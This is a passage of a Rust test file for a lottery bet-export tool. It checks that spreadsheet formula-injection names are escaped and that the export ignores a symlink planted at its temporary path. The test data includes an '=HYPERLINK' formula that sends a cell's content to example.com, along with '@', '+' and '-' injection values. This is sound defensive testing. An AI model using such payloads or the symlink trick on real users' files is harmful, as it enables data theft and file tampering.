        bet("=HYPERLINK(\"http://example.com/\"&A1,\"ver\")", "1", 5),
        bet("+54 11", "2", 5),
        bet("@SUM(A1:A9)", "3", 5),
        bet("Ana-María", "4", 5),
        bet("Ana", "5", 5),
    ];
    bets[1].last_name = "-Díaz".into();
    bets[4].last_name = "O'Brien, =x".into();
    let mut peer = central.connect();
    peer.send(&batch(1, 0, &bets));
    assert_ack(&peer.recv(), 1, 5);
    let stored = "\
1,\"=HYPERLINK(\"\"http://example.com/\"\"&A1,\"\"ver\"\")\",Lorca,1,1999-03-17,5\r\n\
1,+54 11,-Díaz,2,1999-03-17,5\r\n\
1,@SUM(A1:A9),Lorca,3,1999-03-17,5\r\n\
1,Ana-María,Lorca,4,1999-03-17,5\r\n\
1,Ana,\"O'Brien, =x\",5,1999-03-17,5\r\n";
    assert_eq!(
        central.bets_csv(),
        stored,
        "bets.csv keeps the names as sent"
    );

    let (ok, said) = lottery_export(&dir, &["--spreadsheet-safe", "--out", "safe.csv"]);
    assert!(ok, "{said}");
    assert_eq!(
        std::fs::read_to_string(dir.join("safe.csv")).unwrap(),
        "\
1,\"'=HYPERLINK(\"\"http://example.com/\"\"&A1,\"\"ver\"\")\",Lorca,1,1999-03-17,5\r\n\
1,'+54 11,'-Díaz,2,1999-03-17,5\r\n\
1,'@SUM(A1:A9),Lorca,3,1999-03-17,5\r\n\
1,Ana-María,Lorca,4,1999-03-17,5\r\n\
1,Ana,\"O'Brien, =x\",5,1999-03-17,5\r\n"
    );
    assert!(
        said.contains("action: exportar | result: success | archivo_apuestas: ")
            && said.contains("| apuestas: 5 | campos_escapados: 4 |"),
        "{said}"
    );
    // Without the option the export is bets.csv byte for byte.
    let (ok, said) = lottery_export(&dir, &["--out", "plain.csv"]);
    assert!(ok, "{said}");
    assert_eq!(
        std::fs::read_to_string(dir.join("plain.csv")).unwrap(),
        stored
    );
    // Never over the file it reads, which the central appends to.
    let (ok, said) = lottery_export(&dir, &["--spreadsheet-safe", "--out", "bets.csv"]);
    assert!(!ok && said.contains("is the bets file it reads"), "{said}");
    assert_eq!(central.bets_csv(), stored, "bets.csv is left as it was");
}

#[test]
fn lottery_export_writes_a_file_only_its_owner_can_read_and_follows_no_link_at_the_old_tmp_path() {
    use std::os::unix::fs::PermissionsExt;
    // SAFETY: umask only sets this process's mask, which lottery-export inherits.
    unsafe { libc::umask(0o022) };
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = temp_dir("export-modes");
    std::fs::write(dir.join("bets.csv"), "1,Ana,Lorca,1,1999-03-17,5\r\n").unwrap();
    // Someone else's link where the export used to write its temporary file.
    let victim = dir.join("victim");
    std::fs::write(&victim, "not the export's").unwrap();
    std::os::unix::fs::symlink(&victim, dir.join("out.csv.tmp")).unwrap();

    let (ok, said) = lottery_export(&dir, &["--out", "out.csv"]);
    assert!(ok, "{said}");
    assert_eq!(
        std::fs::read_to_string(dir.join("out.csv")).unwrap(),
        "1,Ana,Lorca,1,1999-03-17,5\r\n"
    );
    assert_eq!(mode(&dir.join("out.csv")), 0o600);
    assert!(
        std::fs::read_to_string(&victim).unwrap() == "not the export's",
        "the export wrote through the link planted at its old temporary path"
    );
    assert_eq!(
        std::fs::read_link(dir.join("out.csv.tmp")).unwrap(),
        victim,
        "the link is left alone"
    );
    // An export made readable by others is replaced by one that is not,
    // and no temporary file is left behind.
    std::fs::set_permissions(dir.join("out.csv"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let (ok, said) = lottery_export(&dir, &["--out", "out.csv"]);
    assert!(ok, "{said}");
    assert_eq!(mode(&dir.join("out.csv")), 0o600);
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("out.csv"))
        .collect();
    names.sort();
    assert_eq!(names, ["out.csv", "out.csv.tmp"]);
}
